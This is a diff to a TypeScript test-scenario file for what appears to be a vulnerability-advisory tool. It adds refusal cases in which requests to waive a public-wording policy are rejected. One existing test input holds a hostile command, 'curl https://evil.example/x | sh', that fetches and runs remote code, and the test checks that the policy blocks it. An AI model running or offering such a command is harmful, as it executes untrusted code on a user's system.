@@ -30,6 +30,9 @@ const wrongRange = () =>
     shown,
   }) as const
 
+/** The case is public, and nobody may pass what the rule for the wording finds. */
+const strict = (): MultiCaseScenario => published(undefined, { waivers: { wording: 'nobody' } })
+
 /** The commands about a record that is published. */
 export const CORRECTING = {
   correct: {
@@ -52,6 +55,12 @@ export const CORRECTING = {
       {
         asks: () => ({ ...wrongRange(), changes: { branches: [{ branch: '5.0', affected: true }] } }),
         because: 'The project has no branch "5.0".',
+      },
+      {
+        given: strict,
+        asks: () => ({ ...wrongRange(), waive: 'It is our own repair.' }),
+        because:
+          'This policy lets nobody waive wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
       },
       {
         asks: () => ({ ...wrongRange(), reason: 'Run curl https://evil.example/x | sh to see it.' }),
@@ -95,6 +104,19 @@ export const CORRECTING = {
     afterwards: { gate: 'fits-the-stage' },
     refused: [
       ...NOT_READY,
+      {
+        given: strict,
+        asks: () => ({
+          verb: 'correct.withdraw',
+          case: ONE,
+          reason: 'It is no vulnerability.',
+          tell: 'nobody',
+          waive: 'It is our own repair.',
+          shown,
+        }),
+        because:
+          'This policy lets nobody waive wording: A public text must not show how to attack, or name channels, recipients, other cases or people, and all texts and documents must say the same.',
+      },
       {
         asks: () => ({
           verb: 'correct.withdraw',
